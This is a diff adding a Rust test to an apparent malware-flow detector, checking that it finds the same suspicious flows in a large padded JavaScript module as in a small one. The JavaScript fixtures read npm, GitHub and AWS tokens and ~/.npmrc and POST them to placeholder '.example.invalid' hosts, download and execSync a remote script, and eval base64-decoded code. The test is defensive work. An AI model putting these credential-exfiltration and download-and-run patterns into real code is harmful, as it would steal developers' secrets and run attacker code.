@@ -933,3 +933,76 @@ fn a_value_put_in_the_environment_is_read_back_from_it() {
     let own = "import os, json\nos.environ['APP_CFG'] = os.path.expanduser('~/.config/app/settings.json')\ncfg = json.load(open(os.environ['APP_CFG']))\n";
     assert!(py(own).is_empty(), "{:?}", py(own));
 }
+
+/// `count` generated functions of plain arithmetic and string plumbing, about 90 bytes each.
+fn filler(count: usize) -> String {
+    (0..count)
+        .map(|i| {
+            format!("function f{i}(a,b){{var c=(a|0)*{i}+b;return [c^{i},String(b)].join(':')}}\n")
+        })
+        .collect()
+}
+
+#[test]
+fn large_modules_find_the_flows_of_their_regions_as_a_small_one_does() {
+    // Over the region threshold, the passes replay only what is around sends, runs and secret reads,
+    // and what those call or are called by: here a wrapper 60 KB away from the read that feeds it,
+    // a token read at the top of the module, and a download run through a helper far below.
+    let payload_top = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nconst cp = require('child_process');\nconst tok = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];\n";
+    let wrapper = "function ship(body) {\n  const req = https.request({ host: 'x.example.invalid', method: 'POST' });\n  req.write(body);\n}\n";
+    let reader = "function collect() {\n  const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n  ship(npmrc);\n}\ncollect();\n";
+    let dropper = "fetch('https://z.example.invalid/t', { method: 'POST', body: tok.join(',') });\nfunction runIt(code) {\n  cp.execSync(code);\n}\nhttps.get('https://y.example.invalid/p.sh', (res) => { let s = ''; res.on('data', (d) => { s += d; }); res.on('end', () => runIt(s)); });\n";
+    // Decoded code run through a wrapper defined far from its caller (followed out to the caller),
+    // and through a decoding helper defined far from the run (followed into the helper).
+    let runner = "function runCode(c) {\n  eval(c);\n}\nfunction start() {\n  eval(unpack());\n}\n";
+    let caller = "const blob = 'Y29uc29sZS5sb2coJ2hpJyk7Cg==';\nrunCode(atob(blob));\n";
+    let helper = "const PACKED = 'Y29uc29sZS5sb2coJ2hpJyk7Cg==';\nfunction unpack() {\n  return atob(PACKED);\n}\nstart();\n";
+    let small = format!("{payload_top}{wrapper}{reader}{dropper}{runner}{caller}{helper}");
+    let large = format!(
+        "{payload_top}{runner}{}{wrapper}{}{reader}{}{caller}{}{dropper}{}{helper}{}",
+        filler(450),
+        filler(450),
+        filler(450),
+        filler(450),
+        filler(450),
+        filler(100)
+    );
+    assert!(large.len() > regions_min(), "{}", large.len());
+    let kinds = |found: Vec<(FlowKind, String, String, Option<String>)>| {
+        let mut kinds: Vec<(FlowKind, String)> = found.into_iter().map(|f| (f.0, f.1)).collect();
+        kinds.sort();
+        kinds
+    };
+    let expected = kinds(js(&small));
+    assert!(
+        expected
+            .iter()
+            .any(|(kind, _)| *kind == FlowKind::CredentialToNetwork),
+        "{expected:?}"
+    );
+    assert!(
+        expected
+            .iter()
+            .any(|(kind, _)| *kind == FlowKind::EnvironmentToNetwork),
+        "{expected:?}"
+    );
+    assert!(
+        expected
+            .iter()
+            .any(|(kind, _)| *kind == FlowKind::DownloadToExec),
+        "{expected:?}"
+    );
+    assert_eq!(
+        expected
+            .iter()
+            .filter(|(kind, _)| *kind == FlowKind::DecodedToExec)
+            .count(),
+        2,
+        "{expected:?}"
+    );
+    assert_eq!(kinds(js(&large)), expected);
+}
+
+fn regions_min() -> usize {
+    engine::REGION_MIN_BYTES
+}
